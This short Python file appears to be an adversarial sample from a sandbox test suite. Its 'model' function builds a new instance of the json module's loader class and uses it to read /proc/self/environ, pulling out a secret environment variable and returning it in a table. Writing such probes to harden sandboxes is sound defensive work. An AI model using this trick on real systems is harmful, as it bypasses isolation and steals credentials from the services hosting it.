# seeks: environment
# Each module knows who loaded it, and a loader loads.
import json

import pyarrow as pa


def model(tg):
    loader = type(json.__spec__.loader)("x", "SECRET_FILE")
    return pa.table({"got": [loader.get_data("/proc/self/environ").decode().split("SECRET_VARIABLE=")[1]]})
